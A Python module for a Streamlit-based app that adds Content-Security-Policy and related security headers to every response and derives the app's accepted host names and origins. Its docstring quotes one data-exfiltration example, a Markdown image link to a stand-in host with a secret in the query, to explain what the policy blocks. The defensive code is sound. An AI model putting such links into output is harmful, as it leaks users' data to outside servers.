"""Security: which requests the app answers, and what a browser may load for its pages.

`names` gives the names of the app, by which `OwnOriginOnly` (engine/api/origin.py) refuses requests
for another name and from other sites' pages. `SecurityHeaders` adds a Content-Security-Policy to
every response, because answers and documents are untrusted text, and Markdown such as
`![](http://elsewhere/?q=secret)` would send data to another server. Escaping chunks can miss markup
that is split over two of them; a policy in the browser cannot.
"""

import base64
import hashlib
import re
from pathlib import Path

import streamlit
from starlette.datastructures import MutableHeaders
from starlette.types import ASGIApp, Message, Receive, Scope, Send
from streamlit import config

from engine.api.origin import Names

_INLINE_SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)


def inline_script_hashes(html: str) -> list[str]:
    """The CSP sources that allow a page's own inline scripts and no others."""
    digests = (hashlib.sha256(s.encode()).digest() for s in _INLINE_SCRIPT.findall(html))
    return [f"'sha256-{base64.b64encode(digest).decode()}'" for digest in digests]


def content_security_policy() -> str:
    """A policy that allows resources only from this server."""
    shell = Path(streamlit.__file__).parent / "static" / "index.html"
    scripts = " ".join(inline_script_hashes(shell.read_text(encoding="utf-8")))
    directives = {
        "default-src": "'self'",
        # Streamlit loads the JavaScript of a component from blob: addresses, which only scripts of
        # this page can create.
        "script-src": f"'self' blob: {scripts}",
        "style-src": "'self' 'unsafe-inline'",  # Streamlit writes its styles into the page
        "img-src": "'self' data: blob:",
        "media-src": "'self' data: blob:",
        "font-src": "'self' data:",
        "connect-src": "'self'",  # the WebSocket to this server included
        "worker-src": "'self' blob:",
        "object-src": "'none'",
        "base-uri": "'none'",
        "form-action": "'self'",
        "frame-ancestors": "'none'",
    }
    return "; ".join(f"{name} {sources}" for name, sources in directives.items())


class SecurityHeaders:
    """ASGI middleware that adds the headers to every response."""

    def __init__(self, app: ASGIApp) -> None:
        self._app = app
        self._headers = {
            "Content-Security-Policy": content_security_policy(),
            "Referrer-Policy": "no-referrer",  # the address names the conversation
            "X-Content-Type-Options": "nosniff",
            "Cross-Origin-Resource-Policy": "same-origin",  # no other site may embed a file
            "X-DNS-Prefetch-Control": "off",  # the host name of a link can contain a secret
        }

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                MutableHeaders(scope=message).update(self._headers)
            await send(message)

        await self._app(scope, receive, send_with_headers)


def names(port: int | None) -> Names:
    """What the app is called that is bound to this port, from Streamlit's configuration.

    Host must be localhost at the app's port, or a name in server.address, browser.serverAddress or
    server.allowedHosts. Origin must be that same host, or be listed in server.corsAllowedOrigins.
    """
    ports = (port, config.get_option("browser.serverPort"))
    hosts = [
        config.get_option("server.address") or "",
        config.get_option("browser.serverAddress"),
        *config.get_option("server.allowedHosts"),
    ]
    origins = config.get_option("server.corsAllowedOrigins")
    return Names(
        frozenset(int(each) for each in ports if each),
        tuple(name for each in hosts if (name := str(each).strip().lower())),
        tuple(each.strip() for each in origins),
    )
